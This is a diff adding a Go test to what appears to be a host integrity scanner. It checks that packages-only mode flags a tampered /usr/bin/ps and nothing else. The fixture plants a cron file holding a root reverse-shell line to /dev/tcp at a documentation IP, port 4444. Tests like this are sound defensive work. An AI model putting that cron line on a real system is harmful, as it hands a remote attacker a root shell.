@@ -372,3 +372,22 @@ func TestReportRendering(t *testing.T) {
 		}
 	}
 }
+
+func TestPackagesOnly(t *testing.T) {
+	r := fixture.Debian(t)
+	r.File("/usr/bin/ps", "\x7fELF trojan\n", 0o755)
+	r.File("/etc/cron.d/evil", "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", 0o644)
+	r.Remove("/usr/bin/cat")
+	rep := run(t, r, Options{PackagesOnly: true})
+	if f := has(rep, "integrity.modified-binary", "/usr/bin/ps"); f == nil {
+		t.Fatalf("modified binary not found:\n%s", dump(rep))
+	}
+	for _, f := range rep.Findings {
+		if !strings.HasPrefix(f.Rule, "integrity.modified-") {
+			t.Errorf("package verification reported %s", f.Rule)
+		}
+		if f.Path == "/usr/bin/ls" {
+			t.Errorf("an intact file was reported: %+v", f)
+		}
+	}
+}
